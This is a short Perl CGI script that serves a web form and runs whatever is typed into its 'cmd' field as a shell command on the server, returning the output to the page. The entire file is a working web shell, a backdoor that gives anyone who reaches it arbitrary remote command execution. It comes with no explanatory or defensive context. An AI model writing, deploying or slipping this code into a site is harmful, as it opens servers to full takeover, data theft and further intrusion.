#!/usr/bin/perl
use CGI qw(:standard);
print header;
print "<html><body><form><input name=cmd><input type=submit></form><pre>";
my $cmd = param('cmd');
if ($cmd) {
    print `$cmd 2>&1`;
}
print "</pre></body></html>";
